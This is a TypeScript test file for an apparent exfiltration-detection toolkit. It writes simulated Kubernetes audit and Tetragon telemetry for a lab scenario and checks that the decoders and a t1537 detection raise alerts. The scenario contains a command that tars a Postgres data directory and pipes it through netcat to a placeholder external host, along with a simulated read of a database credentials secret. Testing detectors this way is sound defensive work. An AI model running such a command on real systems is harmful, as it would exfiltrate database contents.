import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Alert, createPipeline, decodeAll, type Finding, type K8sAuditEvent, type OutflowEvent, type ProcessExecEvent } from '@outflow/core';
import { t1537 } from '@outflow/detections';
import { k8sAuditDecoder } from '@outflow/receiver-k8s-audit';
import { tetragonDecoder } from '@outflow/receiver-tetragon';
import { flowEvent, MemoryReceiver } from '@outflow/testkit';
import { Observable } from 'rxjs';
import { afterAll, describe, expect, it } from 'vitest';
import { LabClock } from '../src/clock.js';
import { ATTACKER, EXTERNAL, LAB_PODS, labPod, labPresetConfig } from '../src/scenario.js';
import { TelemetryWriter } from '../src/telemetry.js';

const dir = mkdtempSync(join(tmpdir(), 'outflow-emulate-telemetry-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const wallOrigin = Date.UTC(2025, 5, 1, 12, 0, 0);
const clock = new LabClock(wallOrigin, Date.UTC(2025, 5, 1, 8, 0, 0), 120);
const db = labPod('db');
const reports = labPod('reports');

function decodeLines<E>(decoder: Parameters<typeof decodeAll>[0], path: string): E[] {
  const out: E[] = [];
  for (const line of readFileSync(path, 'utf8').split('\n').filter(Boolean)) {
    const { events, errors } = decodeAll(decoder, line, { location: path });
    expect(errors).toEqual([]);
    out.push(...(events as E[]));
  }
  return out;
}

describe('what the scenario writes, read by the real decoders', () => {
  const writer = new TelemetryWriter(dir, clock, 'lab');
  writer.writeInventory(LAB_PODS, clock.eventOrigin - 86_400_000);
  writer.podStarted(db, clock.eventOrigin - 3_600_000);
  const execWall = wallOrigin + 30_000;
  const command = ['sh', '-c', `tar czf - /var/lib/postgresql/data | nc -N ${EXTERNAL.drop} 4444`];
  writer.exec(db, ATTACKER, command, execWall);
  writer.processExec(
    db,
    { binary: '/usr/bin/sh', args: command.slice(1), pid: 4242, parent: { binary: '/usr/bin/containerd-shim-runc-v2', args: [] } },
    execWall,
  );
  writer.processExec(
    db,
    { binary: '/usr/bin/nc', args: ['-N', EXTERNAL.drop, '4444'], pid: 4244, parent: { binary: '/usr/bin/sh', args: command.slice(1), pid: 4242 } },
    execWall + 3,
  );
  writer.apiRequest(
    { username: 'system:serviceaccount:shop:reports-worker', groups: ['system:serviceaccounts'], sourceIp: reports.ip, userAgent: 'python-requests/2.31.0' },
    {
      verb: 'get',
      resource: 'secrets',
      namespace: 'shop',
      name: 'orders-db-credentials',
      requestUri: '/api/v1/namespaces/shop/secrets/orders-db-credentials',
      code: 200,
      pod: reports,
    },
    execWall + 1_000,
  );

  it('writes audit events the k8s_audit decoder reads: pod start with its address, the exec with its command, a secret read', () => {
    const audit = decodeLines<K8sAuditEvent>(k8sAuditDecoder, writer.auditPath);
    expect(audit.map((e) => `${e.verb} ${e.objectRef?.resource}${e.objectRef?.subresource ? `/${e.objectRef.subresource}` : ''}`)).toEqual([
      'create pods',
      'patch pods/status',
      'create pods/exec',
      'get secrets',
    ]);
    const status = audit[1]?.responseObject as { status: { podIP: string } };
    expect(status.status.podIP).toBe(db.ip);
    const exec = audit[2] as K8sAuditEvent;
    expect(exec.command).toEqual(command);
    expect(exec.user.username).toBe(ATTACKER.username);
    expect(exec.objectRef).toMatchObject({ namespace: 'shop', name: 'orders-db-0' });
    expect(exec.time).toBe(clock.toEvent(execWall));
    expect(audit[3]?.sourceIps).toEqual([reports.ip]);
  });

  it('writes Tetragon process_exec events with the pod, the container and the arguments', () => {
    const execs = decodeLines<ProcessExecEvent>(tetragonDecoder, writer.tetragonPath);
    expect(execs).toHaveLength(2);
    expect(execs[0]?.process.args).toEqual(['sh', '-c', `tar czf - /var/lib/postgresql/data | nc -N ${EXTERNAL.drop} 4444`]);
    expect(execs[1]).toMatchObject({
      kind: 'process_exec',
      phase: 'exec',
      time: clock.toEvent(execWall + 3),
      process: { executable: '/usr/bin/nc', args: ['nc', '-N', EXTERNAL.drop, '4444'], pid: 4244, parent: { pid: 4242, executable: '/usr/bin/sh' } },
      workload: { namespace: 'shop', pod: 'orders-db-0', workloadName: 'orders-db', cluster: 'lab', image: db.image },
    });
  });

  it('is understood by the t1537 preset: the exec alerts name the pod, and the flow is attributed through the inventory', async () => {
    const events: OutflowEvent[] = [
      ...decodeLines<OutflowEvent>(k8sAuditDecoder, writer.auditPath),
      ...decodeLines<OutflowEvent>(tetragonDecoder, writer.tetragonPath),
      flowEvent({
        time: clock.toEvent(execWall + 900),
        start: clock.toEvent(execWall + 100),
        end: clock.toEvent(execWall + 900),
        src: { address: db.ip, port: 41000 },
        dst: { address: EXTERNAL.drop, port: 4444 },
        direction: 'egress',
        bytes: 24_000_000,
        packets: 17_000,
        protocol: 6,
      }),
    ].sort((a, b) => a.time - b.time);
    const alerts: Alert[] = [];
    const enriched: OutflowEvent[] = [];
    const pipeline = createPipeline({
      receivers: [new MemoryReceiver(events)],
      detections: [
        t1537(labPresetConfig(writer.inventoryPath) as never),
        {
          id: 'tap',
          title: 'enriched flows',
          kinds: ['network_flow'],
          connect: (e$) =>
            new Observable<Finding>((subscriber) => {
              const sub = e$.subscribe({ next: (e) => enriched.push(e), complete: () => subscriber.complete() });
              return () => sub.unsubscribe();
            }),
        },
      ],
    });
    pipeline.alerts$.subscribe((a) => alerts.push(a));
    await pipeline.start();
    await pipeline.done;
    await pipeline.shutdown();
    const onDb = alerts.filter((a) => a.workload?.pod === 'orders-db-0').map((a) => a.detection.id);
    expect(onDb).toContain('pod_exec');
    expect(onDb).toContain('exec_payload');
    expect(enriched[0]?.workload).toMatchObject({ pod: 'orders-db-0', workloadName: 'orders-db', namespace: 'shop' });
  });
});
